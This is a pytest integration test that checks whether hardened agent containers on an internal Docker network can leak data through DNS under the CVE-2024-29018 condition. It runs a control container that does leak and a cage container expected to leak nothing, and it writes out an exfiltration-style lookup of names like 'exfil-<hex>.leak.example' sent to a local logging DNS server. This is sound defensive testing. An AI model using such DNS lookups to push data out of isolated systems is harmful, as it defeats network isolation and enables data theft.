"""DNS exfiltration under the CVE-2024-29018 condition, on a real engine (issue 5).

Docker 20.10's embedded resolver forwards a container's queries from the *host's* network namespace
when the host's resolver is a loopback address (systemd-resolved's 127.0.0.53) and the container
has no `dns` of its own: then even a container on an `internal` network can push data out through
DNS. The machine's main engine cannot be switched to a loopback resolver without disturbing everyone
else on it, so this probe starts a private engine (tools.engine, with the same hardened daemon.json
and firewall) in its own network namespace that sees a resolv.conf naming a test DNS server on
127.0.0.53, which answers every name and logs every query. On an internal cage network there:
- a control container without `dns` (Docker's default) shows the leak is real on this engine;
- a container with the `dns` the program gives every claw must leak nothing.
"""

from __future__ import annotations

import secrets
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from tests.integration.bench import DNS_SERVER
from tools import engine as engine_tool

pytestmark = pytest.mark.integration
GROUP = "network"
NETNS = "clawbench-dns"
CLAW_IMAGE_TAG = "clawstaff/claw-runtime"


def _run(argv: list[str], **kw) -> subprocess.CompletedProcess:
    return subprocess.run(argv, capture_output=True, text=True, check=True, timeout=120, **kw)


def _claw_dns(local_eval) -> list[str]:
    """The `dns` input the program gives every claw container (all cages alike)."""
    values = {
        tuple(r.inputs.get("dns") or ())
        for r in local_eval.by_type("docker:index/container:Container")
        if r.name.endswith("-claw")
    }
    assert len(values) == 1 and values != {()}, f"claw containers do not share one explicit dns: {values}"
    return list(values.pop())


@pytest.fixture(scope="module")
def loopback_resolver_engine(isolation_bench, claw_runtime_image):
    """(docker client of a private engine whose resolver is 127.0.0.53, path of the DNS query log)."""
    import docker

    root = Path(tempfile.mkdtemp(prefix="clawbench-dns-", dir="/var/tmp"))
    root.chmod(0o711)  # userns-remap: the remapped root must traverse to its data directory
    paths = engine_tool.EnginePaths(
        daemon_json=root / "daemon.json",
        firewall=root / "firewall.nft",
        socket=root / "docker.sock",
        pidfile=root / "docker.pid",
        log=root / "dockerd.log",
        state=root / "engine.json",
        data_root=root / "data",
        exec_root=root / "exec",
        netns=NETNS,
        resolv_conf=root / "resolv.conf",
    )
    paths.resolv_conf.write_text("nameserver 127.0.0.53\n")
    subprocess.run(["ip", "netns", "del", NETNS], capture_output=True)
    _run(["ip", "netns", "add", NETNS])
    _run(["ip", "netns", "exec", NETNS, "ip", "link", "set", "lo", "up"])
    dns_log = root / "dns.log"
    with open(dns_log, "ab") as log:
        dns = subprocess.Popen(
            ["nsenter", f"--net=/run/netns/{NETNS}", "/usr/bin/python3", "-c", DNS_SERVER],
            stdout=log,
            stderr=subprocess.STDOUT,
            stdin=subprocess.DEVNULL,
        )
    client = None
    try:
        summary = engine_tool.start(paths, paths.resolv_conf.read_text())
        assert "userns-remap=on" in summary, summary
        image = subprocess.run(["docker", "save", claw_runtime_image], capture_output=True, check=True).stdout
        subprocess.run(
            ["docker", "-H", f"unix://{paths.socket}", "load", "-q"],
            input=image,
            capture_output=True,
            check=True,
            timeout=120,
        )
        client = docker.DockerClient(base_url=f"unix://{paths.socket}", timeout=120)
        isolation_bench.scorecard.notes.append(
            "DNS exfiltration probe: a private engine (same daemon.json and firewall) in its own network "
            "namespace whose resolv.conf names a logging test DNS on 127.0.0.53 (CVE-2024-29018 condition)"
        )
        yield client, dns_log, claw_runtime_image
    finally:
        if client is not None:
            for container in client.containers.list(all=True):
                container.remove(force=True)
            for network in client.networks.list(names=["cage-dnsbench"]):
                network.remove()
            client.close()
        engine_tool.stop(paths)
        dns.kill()
        dns.wait(timeout=10)
        subprocess.run(["ip", "netns", "del", NETNS], capture_output=True)
        with open("/proc/self/mounts") as mounts:
            leftovers = [l.split()[1] for l in mounts if l.split()[1].startswith(str(root))]
        for point in sorted(leftovers, key=len, reverse=True):
            subprocess.run(["umount", "-l", point], capture_output=True)
        subprocess.run(["rm", "-rf", str(root)], capture_output=True)


def test_claw_dns_leaks_nothing_where_dockers_default_would(isolation_bench, loopback_resolver_engine, local_eval):
    client, dns_log, image = loopback_resolver_engine
    network = client.networks.create(
        "cage-dnsbench", driver="bridge", internal=True, options={"com.docker.network.bridge.name": "cg-dnsbench"}
    )
    common = dict(
        image=image,
        entrypoint=["/usr/bin/python3"],
        command=["-c", "import signal; signal.pause()"],
        user="65532:65532",
        read_only=True,
        cap_drop=["ALL"],
        security_opt=["no-new-privileges"],
        network=network.name,
        detach=True,
    )
    claw_dns = _claw_dns(local_eval)
    cage = client.containers.run(name="dnsbench-cage", dns=claw_dns, **common)
    control = client.containers.run(name="dnsbench-control", **common)
    names = {
        "cage": f"exfil-{secrets.token_hex(8)}.leak.example",
        "control": f"control-{secrets.token_hex(8)}.leak.example",
    }
    results = {}
    for label, container in (("cage", cage), ("control", control)):
        code = (
            "import socket\ntry:\n    print(socket.getaddrinfo(%r, 443)[0][4][0])\n"
            "except socket.gaierror as e:\n    print('failed:', e)\n"
        ) % names[label]
        results[label] = container.exec_run(["/usr/bin/python3", "-c", code]).output.decode().strip()
    time.sleep(1)
    log = dns_log.read_text()
    leaked = {label: name in log for label, name in names.items()}
    scorecard = isolation_bench.scorecard
    scorecard.record(
        GROUP,
        "control: container without dns on an internal network, host resolver 127.0.0.53",
        "leaks (shows the CVE-2024-29018 path is live on this engine)",
        f"getaddrinfo -> {results['control']}; test DNS saw it: {leaked['control']}",
        leaked["control"],
    )
    ok = not leaked["cage"] and not results["cage"][:1].isdigit()
    scorecard.record(
        GROUP,
        f"claw's dns {claw_dns} on the same network: resolve a unique name",
        "does not resolve; the test DNS never sees it",
        f"getaddrinfo -> {results['cage']}; test DNS saw it: {leaked['cage']}",
        ok,
    )
    assert leaked["control"], f"the control did not leak ({results}); the probe cannot tell a fix from a blind spot"
    assert ok, results
